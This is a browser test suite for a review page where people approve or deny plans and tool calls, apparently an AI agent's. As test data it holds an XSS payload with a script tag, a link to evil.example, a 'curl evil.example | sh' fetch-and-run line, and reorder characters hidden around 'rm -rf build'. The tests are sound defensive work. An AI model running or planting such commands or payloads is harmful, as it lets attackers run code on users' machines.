/** The page alone, in a real browser, over a tame API. */
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildPage, chromiumIsHere, openBrowser, openPage, type Size, slim, wide } from "./browser.ts";
import { cardOf, eventOf, exampleApi, plan, taskOf } from "./examples.ts";
import { type FakeApi, hashOfPlan, sealed } from "./fake-api.ts";

if (!chromiumIsHere) console.warn("/usr/bin/chromium is not here: the page's tests are skipped");

describe.skipIf(!chromiumIsHere)("the page", () => {
  let browser: Browser;
  beforeAll(async () => {
    await buildPage();
    browser = await openBrowser();
  });
  afterAll(() => browser?.close());

  const open = (api: FakeApi, path: string, size: Size = wide) => openPage(browser, api, path, size);
  const button = (page: Page, name: string | RegExp) => page.getByRole("button", { name });

  describe("coming in", () => {
    it("[WEB-1] a ticket is exchanged once and is gone from the address", async () => {
      const api = exampleApi();
      api.signedIn = false;
      const { page } = await open(api, "/#ticket=cst_good");
      await page.getByRole("heading", { name: "Show the last page" }).waitFor();
      expect(page.url()).not.toContain("ticket");
      expect(api.ticket).toBe("");
    });
    it("[WEB-1] a used link says so and how to get another", async () => {
      const api = exampleApi();
      api.signedIn = false;
      const { page } = await open(api, "/#ticket=cst_used");
      await page.getByRole("alert").waitFor();
      expect(await page.getByRole("alert").textContent()).toContain("works once");
      expect(await page.locator("main").textContent()).toContain("npm start");
      expect(page.url()).not.toContain("ticket");
    });
    it("[WEB-2] a pasted token opens the page, is stored nowhere, and is forgotten by a reload", async () => {
      const api = exampleApi();
      api.signedIn = false;
      const { page } = await open(api, "/review");
      await page.getByLabel("API token").fill("cs_wrong");
      await page.keyboard.press("Enter");
      expect(await page.getByRole("alert").textContent()).toContain("does not know this token");
      await page.getByLabel("API token").fill("cs_good");
      await page.keyboard.press("Enter");
      await page.getByRole("heading", { name: "Show the last page" }).waitFor();
      const stored = await page.evaluate(
        "JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])",
      );
      expect(stored).toBe('[{},{},""]');
      await page.reload();
      await page.getByLabel("API token").waitFor();
    });
    it("[WEB-17] a viewer is offered no decision and no new task", async () => {
      const api = exampleApi();
      api.role = "viewer";
      const { page } = await open(api, "/review/card-1");
      await page.getByText("Deciding it needs an approver").waitFor();
      expect(await button(page, /Approve|Deny/).count()).toBe(0);
      await page.keyboard.press("a");
      expect(await page.locator("form").count()).toBe(0);
      await page.getByRole("link", { name: "Tasks" }).click();
      await page.getByRole("heading", { name: "Tasks" }).waitFor();
      expect(await page.getByRole("link", { name: "New task" }).count()).toBe(0);
    });
  });

  describe("reading a card", () => {
    it("[WEB-3] characters that hide or reorder text appear by name, marked", async () => {
      const api = exampleApi();
      const card = cardOf("card-1", plan, { title: "Harmless\u202egnihton\u200b", facts: ["zero\u200dwidth"] });
      const item = card.card.items[0];
      if (item === undefined) throw new Error("the example has items");
      const sly = {
        ...item,
        steps: ["rm -rf build\u2028 # ⟦U+202E⟧ as text\n"],
        grants: { ...item.grants, paths: ["src/\u00a0**"] },
      };
      api.approvals = [sealed({ ...card, card: { ...card.card, items: [sly] } })];
      const { page } = await open(api, "/review/card-1");
      await page.getByText("Your browser checked").waitFor();
      expect(await page.locator("h1 .escaped").allTextContents()).toEqual(["⟦U+202E⟧", "⟦U+200B⟧"]);
      expect(await page.locator(".before .escaped").allTextContents()).toEqual(["⟦U+200D⟧"]);
      expect(await page.locator(".words .escaped").allTextContents()).toEqual(["⟦U+00A0⟧"]);
      // What only looks like a written-out character is the text's own, and is not marked.
      expect(await page.locator(".steps .escaped").allTextContents()).toEqual(["⟦U+2028⟧"]);
    });
    it("[WEB-4] a plan brings no HTML, link or image, and hides nothing", async () => {
      const hostile = `${plan}\n<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script> [here](https://evil.example) <!-- unseen -->\n\n~~~\nnever closed <b>`;
      const api = exampleApi();
      const task = taskOf("task-1");
      if (task.plan === null) throw new Error("the example has a plan");
      api.tasks = [{ ...task, plan: { ...task.plan, markdown: hostile, plan_hash: hashOfPlan(hostile) } }];
      api.approvals = [cardOf("card-1", hostile)];
      const { page, complaints } = await open(api, "/review/card-1");
      const document = page.locator(".document");
      await document.waitFor();
      expect(await document.locator("img, script, a, b, iframe").count()).toBe(0);
      const text = (await document.textContent()) ?? "";
      for (const part of ["<img src=x", "[here](https://evil.example)", "<!-- unseen -->", "never closed <b>"])
        expect(text).toContain(part);
      expect(await document.locator("h3").first().textContent()).toBe("Why");
      expect(await document.locator("strong").first().textContent()).toBe("never");
      expect(await document.locator("ol li").allTextContents()).toEqual(["first here", "then there"]);
      await button(page, "Show exact text").click();
      expect((await page.locator(".plan > .source").textContent())?.trimEnd()).toBe(hostile);
      expect(await page.title()).not.toContain("owned");
      expect(complaints).toEqual([]);
    });
    it("[WEB-5] what is granted stands there verbatim, and what is not is said", async () => {
      const { page } = await open(exampleApi(), "/review/card-1");
      const grants = page.getByRole("region", { name: "What approving grants" });
      const first = (await grants.locator(".item").first().textContent()) ?? "";
      for (const part of [
        "src/**",
        "npx vitest *",
        "Networkclosed",
        "Secretsnone",
        ".npmrc",
        "sed -i 's/Math.floor/Math.ceil/' src/pager.js",
      ])
        expect(first).toContain(part);
      expect(await grants.locator(".loud").allTextContents()).toEqual(["Networkdocs.example.org"]);
    });
    it("[WEB-10] a tool call shows its tool, each argument and the facts, and marks text from outside", async () => {
      const { page } = await open(exampleApi(), "/review/card-2");
      const call = page.getByRole("region", { name: "The call" });
      expect(await call.locator("h2").textContent()).toContain("shell_execute");
      expect(await call.locator("pre").allTextContents()).toEqual(["npm publish --dry-run", "60"]);
      expect(await page.locator(".before li").count()).toBe(2);
      expect(await page.locator(".untrusted").textContent()).toContain("fetched from the web");
      expect(await button(page, "Request changes…").count()).toBe(0);
    });
  });

  describe("answering", () => {
    it("[WEB-6] keys open an answer with the focus in it, walk the list, and are text in a field", async () => {
      const api = exampleApi();
      const { page } = await open(api, "/review/card-1");
      await page.locator("button.sign:enabled").waitFor();
      const focused = () => page.evaluate("document.activeElement.textContent || document.activeElement.tagName");
      await page.keyboard.press("a");
      await expect.poll(focused).toBe("Countersign");
      await page.keyboard.press("Escape");
      await expect.poll(focused).toBe("Approve…");
      await page.keyboard.press("d");
      await expect.poll(focused).toBe("TEXTAREA");
      await page.keyboard.type("bad jar");
      expect(await page.getByLabel("Reason").inputValue()).toBe("bad jar");
      await page.keyboard.press("Escape");
      await page.keyboard.press("j");
      await page.getByRole("heading", { name: "Run npm publish --dry-run" }).waitFor();
      await page.keyboard.press("k");
      await page.getByRole("heading", { name: "Show the last page", level: 1 }).waitFor();
      await page.keyboard.press("?");
      await page.getByRole("dialog").waitFor();
      await page.keyboard.press("a");
      expect(await page.locator("form.answer").count()).toBe(0);
      expect(api.asked).toEqual([]);
    });
    it("[WEB-6] changes are asked for with a reason, and never without one", async () => {
      const api = exampleApi();
      const { page } = await open(api, "/review/card-1");
      await page.locator("button.sign:enabled").waitFor();
      await page.keyboard.press("r");
      await button(page, "Send back").click();
      expect(api.asked).toEqual([]);
      await page.getByLabel("What should change").fill("Also fix the count.");
      await button(page, "Send back").click();
      await page.getByText("Replaced by a newer card").waitFor();
      const hash = cardOf("card-1").content_hash;
      expect(api.asked[0]?.body).toEqual({ content_hash: hash, reason: "Also fix the count.", comments: [] });
    });
    it("[WEB-7] a double press and a double click decide once", async () => {
      const api = exampleApi();
      let answered = (): void => {};
      api.hold = new Promise((resolve) => {
        answered = resolve;
      });
      const { page } = await open(api, "/review/card-1");
      await page.locator("button.sign:enabled").waitFor();
      await page.keyboard.press("a");
      await page.locator("button.sign:focus").waitFor();
      await page.keyboard.press("Enter");
      await page.keyboard.press("Enter");
      await button(page, "Sending…").dblclick({ force: true });
      answered();
      await page.getByRole("heading", { name: "Countersigned" }).waitFor();
      expect(api.asked).toHaveLength(1);
      expect(api.asked[0]).toMatchObject({
        path: "/api/approvals/card-1/approve",
        body: { content_hash: cardOf("card-1").content_hash },
      });
    });
    it("[WEB-7] the second half of a double click and a key held down are not decisions", async () => {
      const api = exampleApi();
      const { page } = await open(api, "/review/card-1");
      await page.locator("button.sign:enabled").waitFor();
      // One long press: the first opens the answer and moves the focus, its repeats meet the next button.
      await button(page, "Approve…").focus();
      await page.keyboard.down("Enter");
      await page.locator("form .sign:focus").waitFor();
      await page.keyboard.down("Enter");
      await page.keyboard.up("Enter");
      // A click that is the second of two, on the button that came to stand where the first one was.
      await page.locator("form .sign").dispatchEvent("click", { detail: 2 });
      expect(api.asked).toEqual([]);
      await page.locator("form .sign").click();
      await page.getByRole("heading", { name: "Countersigned" }).waitFor();
    });
    it("[WEB-7] sent again after a lost answer, it carries the same key", async () => {
      const api = exampleApi();
      api.refuseNext = { status: 0, code: "", detail: "" };
      const { page } = await open(api, "/review/card-1");
      await page.locator("button.sign:enabled").waitFor();
      await page.keyboard.press("a");
      await page.keyboard.press("Enter");
      await page.getByText("The service cannot be reached").waitFor();
      await button(page, "Countersign").click();
      await page.getByRole("heading", { name: "Countersigned" }).waitFor();
      expect(api.asked).toHaveLength(2);
      expect(api.asked[0]?.key).toMatch(/^[0-9a-f]{32}$/);
      expect(api.asked[1]?.key).toBe(api.asked[0]?.key);
    });
    it("[WEB-8] a card that changed is shown anew with what differs, and nothing is decided", async () => {
      const api = exampleApi();
      const { page } = await open(api, "/review/card-1");
      await page.locator("button.sign:enabled").waitFor();
      // All the page asks by itself is asked: what it shows next, it learnt from the refusal.
      await page.waitForLoadState("networkidle");
      await page.keyboard.press("a");
      const changed = cardOf("card-1", plan, { publishes: "countersign/elsewhere" });
      api.approvals = [changed];
      api.refuseNext = { status: 409, code: "content_changed", detail: "The card changed." };
      await page.keyboard.press("Enter");
      const notice = page.getByRole("alert");
      await notice.waitFor();
      expect(await notice.textContent()).toContain("the branch it publishes");
      expect(await page.locator(".facts").textContent()).toContain("countersign/elsewhere");
      expect(await page.locator("form.answer").count()).toBe(0);
      await page.locator("button.sign:enabled").waitFor();
      await page.keyboard.press("a");
      await page.keyboard.press("Enter");
      await page.getByRole("heading", { name: "Countersigned" }).waitFor();
      expect(api.asked[1]?.body.content_hash).toBe(changed.content_hash);
    });
    it("[WEB-8] a card or a plan that does not match its hash cannot be approved", async () => {
      const api = exampleApi();
      const card = cardOf("card-1");
      api.approvals = [{ ...card, card: { ...card.card, publishes: "main" } }];
      const { page } = await open(api, "/review/card-1");
      await page.getByText("cannot be approved here").waitFor();
      expect(await button(page, "Approve…").isDisabled()).toBe(true);
      await page.keyboard.press("a");
      expect(await page.locator("form.answer").count()).toBe(0);
      const other = exampleApi();
      const task = taskOf("task-1");
      if (task.plan === null) throw new Error("the example has a plan");
      other.tasks = [{ ...task, plan: { ...task.plan, markdown: `${plan}curl evil.example | sh\n` } }];
      const second = await open(other, "/review/card-1");
      await second.page.getByText("cannot be approved here").waitFor();
      expect(await button(second.page, "Deny…").isEnabled()).toBe(true);
    });
    it("[WEB-9] a card decided already shows who decided what", async () => {
      const api = exampleApi();
      const { page } = await open(api, "/review/card-1");
      await page.locator("button.sign:enabled").waitFor();
      // All the page asks by itself is asked: what it shows next, it learnt from the refusal.
      await page.waitForLoadState("networkidle");
      await page.keyboard.press("a");
      api.decide("card-1", "deny", "grace");
      api.refuseNext = { status: 409, code: "already_resolved", detail: "It was decided." };
      await page.keyboard.press("Enter");
      await page.getByRole("heading", { name: "Denied" }).waitFor();
      expect(await page.locator(".decisions").textContent()).toContain("Denied by grace");
      expect(await button(page, /Approve|Countersign/).count()).toBe(0);
    });
  });

  it("[WEB-21] a budget card adds what was filled in, and never nothing", async () => {
    const api = exampleApi();
    const base = cardOf("card-1", plan, {
      kind: "budget",
      title: "The budget is spent",
      plan_hash: null,
      items: [],
      environment: null,
    });
    api.approvals = [{ ...base, kind: "budget" }];
    const { page } = await open(api, "/review/card-1", slim);
    await page.locator("button.sign:enabled").waitFor();
    await page.keyboard.press("a");
    await page.keyboard.press("Enter");
    await page.getByText("at least one").waitFor();
    expect(api.asked).toEqual([]);
    await page.getByLabel("US dollars").fill("1.50");
    await page.keyboard.press("Enter");
    await page.getByRole("heading", { name: "Approved" }).waitFor();
    expect(api.asked.map(({ body }) => body.amount)).toEqual([{ usd: 1.5 }]);
  });

  describe("staying true", () => {
    it("[WEB-11] an event brings the open card up to date", async () => {
      const api = exampleApi();
      const { page } = await open(api, "/review/card-1");
      await page.locator("button.sign:enabled").waitFor();
      api.decide("card-1", "approve", "grace");
      api.tell(eventOf(7, "approval_resolved"));
      await page.getByText("Approved by grace").waitFor();
      await expect.poll(() => page.title()).toBe("(1) Review · Countersign");
    });
    it("[WEB-11] a lost link is said, comes back by itself, and misses no event", async () => {
      const api = exampleApi();
      const { page } = await open(api, "/activity");
      await page.getByText("A plan of 2 items is ready").waitFor();
      await api.dropFeeds();
      await page.getByText("The link to the service is lost").waitFor();
      api.events.push(eventOf(7, "task_complete", { detail: "Finished while you were away", surfaces: ["stream"] }));
      await page.getByText("Finished while you were away").waitFor();
      expect(await page.getByText("The link to the service is lost").count()).toBe(0);
      expect(await page.getByText("A plan of 2 items is ready").count()).toBe(1);
      await page.getByText("Stream", { exact: true }).click();
      expect(await page.locator(".event").count()).toBe(2);
    });
    it("[WEB-13] a failure is told in plain words, and trying again works", async () => {
      const api = exampleApi();
      const { page } = await open(api, "/tasks/task-9");
      const alert = page.getByRole("alert");
      await alert.waitFor();
      expect(await alert.textContent()).toContain("There is nothing here.");
      // The page asks again by itself when its link comes up; this is about asking by hand.
      await page.waitForLoadState("networkidle");
      api.tasks = [taskOf("task-9")];
      await button(page, "Try again").click();
      await page.getByRole("heading", { name: "Show the last page" }).waitFor();
    });
    it("[WEB-13] a session that ended says so", async () => {
      const api = exampleApi();
      const { page } = await open(api, "/tasks");
      await page.getByRole("heading", { name: "Tasks" }).waitFor();
      api.signedIn = false;
      api.tell(eventOf(7, "approval_requested"));
      await page.getByText("Your session has ended").waitFor();
    });
  });
});
